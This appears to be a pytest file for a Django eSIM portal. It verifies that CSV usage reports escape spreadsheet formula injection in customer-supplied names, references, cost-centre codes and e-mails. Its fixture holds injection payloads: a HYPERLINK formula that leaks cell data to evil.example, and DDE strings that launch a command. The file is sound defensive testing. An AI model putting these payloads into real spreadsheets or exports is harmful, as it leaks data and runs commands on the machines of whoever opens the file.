"""CSV reports opened in a spreadsheet: text typed by customers (member names, employee
references, cost-centre codes, e-mail addresses) that would start a formula is quoted, in the
portal's and the API's usage report, per member and per cost centre; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.test import Client

from esimdesk.groups import services as groups
from esimdesk.sharedplans.member_import import import_members
from tests.sharedplans.test_import import organisation

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "employee_ref": "+cmd|' /C calc'!A0",
    "cost_centre": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "=1+2@acme.example",
}


def _hostile_organisation() -> tuple[object, int]:
    admin, group = organisation(3)
    groups.add_cost_centre(by=admin, group=group, code=HOSTILE["cost_centre"])
    groups.add_cost_centre(by=admin, group=group, code="-2+3")
    data = ("email,phone,name,employee_ref,cost_centre,cap_gb,language\n"
            f'"{HOSTILE["email"]}",,"{HOSTILE["name"].replace(chr(34), chr(34) * 2)}",'
            f'"{HOSTILE["employee_ref"]}","{HOSTILE["cost_centre"]}",,en\n'
            'plain@acme.example,,-Dash Person,-42,-2+3,,en\n').encode()
    report = import_members(by=admin, group=group, data=data)
    assert report.assigned == 2, report.rejected
    return admin, group.pk


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            # a leading minus only on a plain number
            assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), row


def test_portal_member_report_quotes_formulas(group_plans: None) -> None:
    admin, group_id = _hostile_organisation()
    client = Client()
    client.force_login(admin)
    response = client.get(f"/groups/{group_id}/report.csv")
    assert response.status_code == 200
    rows = _rows(response.content.decode())
    _assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    hostile = next(dict(zip(header, r, strict=True)) for r in body
                   if r[0] == "'" + HOSTILE["email"])
    assert hostile["name"] == "'" + HOSTILE["name"]
    assert hostile["employee_ref"] == "'" + HOSTILE["employee_ref"]
    assert hostile["cost_centre"] == "'" + HOSTILE["cost_centre"]
    plain = next(dict(zip(header, r, strict=True)) for r in body
                 if r[0] == "plain@acme.example")
    # "-42" is a number and stays one; "-Dash Person" and "-2+3" are not.
    assert (plain["name"], plain["employee_ref"], plain["cost_centre"]) == (
        "'-Dash Person", "-42", "'-2+3")
    assert plain["data_bytes"] == "0"


def test_portal_cost_centre_report_quotes_formulas(group_plans: None) -> None:
    admin, group_id = _hostile_organisation()
    client = Client()
    client.force_login(admin)
    rows = _rows(client.get(f"/groups/{group_id}/report.csv?by=cost_centre").content.decode())
    _assert_no_formula(rows)
    centres = {row[0] for row in rows[1:]}
    assert {"'" + HOSTILE["cost_centre"], "'-2+3"} <= centres


@pytest.mark.parametrize("by", ["member", "cost_centre"])
def test_api_usage_report_quotes_formulas(group_plans: None, by: str) -> None:
    _admin, group_id = _hostile_organisation()
    client = Client()
    login = client.post("/_allauth/app/v1/auth/login",
                        data=json.dumps({"email": "it@acme.example",
                                         "password": "correct-horse-battery-42"}),
                        content_type="application/json")
    assert login.status_code == 200, login.content
    token = login.json()["meta"]["session_token"]
    response = client.get(f"/api/v1/groups/{group_id}/usage.csv?by={by}",
                          HTTP_X_SESSION_TOKEN=token)
    assert response.status_code == 200, response.content
    rows = _rows(response.content.decode())
    _assert_no_formula(rows)
    flat = {value for row in rows for value in row}
    assert "'" + HOSTILE["cost_centre"] in flat


def test_every_csv_writer_goes_through_the_safe_writer() -> None:
    """A new report written with the csv module directly would miss the quoting."""
    source = Path(__file__).resolve().parents[2] / "src" / "esimdesk"
    offenders = [str(path.relative_to(source)) for path in source.rglob("*.py")
                 if path.name != "csv_safe.py"
                 and re.search(r"csv\.(writer|DictWriter)\b", path.read_text())]
    assert offenders == []
